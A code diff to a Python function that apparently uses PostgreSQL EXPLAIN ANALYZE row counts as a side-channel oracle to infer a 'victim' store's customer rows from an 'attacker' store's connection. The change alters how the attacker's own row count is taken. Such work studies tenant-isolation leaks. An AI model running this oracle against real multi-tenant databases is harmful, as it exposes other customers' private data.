@@ -81,8 +81,11 @@ def index_oracle(conn: psycopg.Connection[Any], home: str | None, victim: str) -
             f"EXPLAIN (ANALYZE, COSTS OFF, TIMING OFF, SUMMARY OFF) SELECT 1 FROM retail.customers WHERE {where}"
         )
     )
+    # Every row of the attacker's own store, not only those in the range: a plan that
+    # filters the range out of the store's rows (another of its store-led indexes)
+    # reports those as removed, which tells nothing of another store.
     (own,) = conn.execute(
-        f"SELECT count(*) FROM retail.customers WHERE {where} AND store_id = %s", (home,)
+        "SELECT count(*) FROM retail.customers WHERE store_id = %s", (home,)
     ).fetchone()
     found = int(re.search(r"rows=(\d+)", plan).group(1))
     removed = sum(int(n) for n in re.findall(r"Rows Removed by \w+: (\d+)", plan))
